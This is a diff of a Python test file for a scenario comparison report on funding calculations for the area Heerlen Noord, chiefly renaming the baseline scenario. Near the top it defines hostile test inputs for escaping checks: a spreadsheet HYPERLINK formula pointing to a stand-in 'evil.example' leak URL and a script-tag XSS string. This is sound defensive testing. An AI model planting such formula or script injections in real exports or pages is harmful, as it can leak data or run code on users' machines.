@@ -1,7 +1,7 @@
 """The scenario comparison report (issue 17): its tables, the export, escaping and the notebook.
 
 Values by hand as in tests/test_compare.py: Heerlen Noord's realisatiestimulans 7,608,461.54
-under the agreement (pages 6, 8; A13), 3,804,230.77 at realisation 0.5; ORV 9,000,000 and
+in the base scenario (pages 6, 8; A13), 3,804,230.77 at realisation 0.5; ORV 9,000,000 and
 capacity 3,583,333.33 under the national ceilings (pages 7, 8; A22); nationally ORV 180 of
 200 mln claims paid, capacity 50 of 60 mln.
 """
@@ -26,6 +26,7 @@ from .conftest import PROJECT
 HN = "heerlen-noord"
 FORMULA = '=HYPERLINK("http://evil.example/?leak=1","klik")'
 SCRIPT = "<script>alert(1)</script>"
+BASE = "basisscenario (berekend)"  # the name of data/scenarios/0-basisscenario.yaml
 
 
 def named(name: str, description: str | None = None, **fields) -> NamedScenario:
@@ -35,7 +36,7 @@ def named(name: str, description: str | None = None, **fields) -> NamedScenario:
 
 @pytest.fixture(scope="module")
 def hn():
-    return compare([named("de afspraak"), named("half", realisation=0.5)], HN, n_draws=200)
+    return compare([named(BASE), named("half", realisation=0.5)], HN, n_draws=200)
 
 
 @pytest.fixture(scope="module")
@@ -53,30 +54,30 @@ def hostile():
 def test_run_comparison_reads_the_shipped_files_in_order():
     c = C.run_comparison(None, "national", n_draws=50)
     assert c.area is None
-    assert c.names[:3] == ["de afspraak", "starts 1 jaar later", "70% realisatie"]
+    assert c.names[:3] == ["basisscenario (berekend)", "starts 1 jaar later", "70% realisatie"]
     c = C.run_comparison(
         [
             PROJECT / "data/scenarios/2-realisatie-70.yaml",
-            PROJECT / "data/scenarios/0-afspraak.yaml",
+            PROJECT / "data/scenarios/0-basisscenario.yaml",
         ],
         HN,
         lang="en",
         n_draws=50,
     )
-    assert c.names == ["70% realisation", "the agreement"]  # the first file is the baseline
+    assert c.names == ["70% realisation", "base scenario (computed)"]  # the first: the baseline
     with pytest.raises(ValueError, match="known: "):
         C.run_comparison(None, "atlantis", n_draws=50)
 
 
 def test_totals_table_writes_the_hand_values_and_the_difference(hn):
     table = C.totals_table(hn, "nl")
-    assert list(table.columns) == ["de afspraak", "half"]
+    assert list(table.columns) == [BASE, "half"]
     rs = t("realisatiestimulans", "nl")
     computed = f"{rs}, {t('computed', 'nl')}"
-    diff = f"{rs}: {t('cmp.difference', 'nl', baseline='de afspraak')}"
-    assert table.at[computed, "de afspraak"] == "€ 7.608.462"
+    diff = f"{rs}: verschil met het basisscenario"  # the first is Scenario(): the base scenario
+    assert table.at[computed, BASE] == "€ 7.608.462"
     assert table.at[computed, "half"] == "€ 3.804.231"
-    assert table.at[diff, "de afspraak"] == t("cmp.baseline", "nl")
+    assert table.at[diff, BASE] == t("cmp.baseline", "nl")
     assert table.at[diff, "half"] == "\u2212 € 3,8 mln"
     assert table.at[f"{rs}: {t('cmp.position', 'nl')}", "half"] == t("below", "nl")
     orv = f"{t('orv', 'nl')}, {t('computed', 'nl')}"
@@ -102,7 +103,7 @@ def test_ceilings_table_paid_of_claims_nationally(hn):
     assert row[t("cmp.claims", "nl")] == "€ 200.000.000"
     assert row[t("cmp.paid", "nl")] == "€ 180.000.000"
     assert row[t("cmp.share_used", "nl")] == "100%"
-    row = table.loc[("de afspraak", t("capaciteit", "nl"))]
+    row = table.loc[(BASE, t("capaciteit", "nl"))]
     assert (row[t("cmp.claims", "nl")], row[t("cmp.paid", "nl")]) == (
         "€ 60.000.000",
         "€ 50.000.000",
@@ -208,7 +209,8 @@ def test_names_and_descriptions_are_escaped_in_html_and_markdown(hostile):
 
 def test_the_modelling_choices_are_named(hn):
     notes = C.method_notes(hn, "nl", 2000)
-    assert "de afspraak" in notes[0]
+    assert f"({BASE})" in notes[0]
+    assert "Die verdeelregel is een aanname (A22)" in notes[0]
     assert "2.000 keer" in notes[1] and "70% tot 105%" in notes[1]  # the band of A15
     assert "€ 180,0 mln" in notes[2] and "€ 50,0 mln" in notes[2]
     nat = compare([named("a")], None, n_draws=50)
@@ -239,7 +241,7 @@ def test_the_notebook_runs_with_papermill_and_saves_its_files(tmp_path, area_id)
         assert f"{name}.png" not in saved and f"{name}.csv" not in saved
     assert {"comparison.csv", "comparison.xlsx", "comparison-excel-nl.csv"} <= saved
     machine = pd.read_csv(out / "comparison.csv")
-    assert machine["scenario"].iloc[0] == "the agreement"  # lang="en": English names
+    assert machine["scenario"].iloc[0] == "base scenario (computed)"  # lang="en": English names
     assert set(machine["scope"]) == ({"area"} if area_id == HN else {"areas", "national"})
 
 
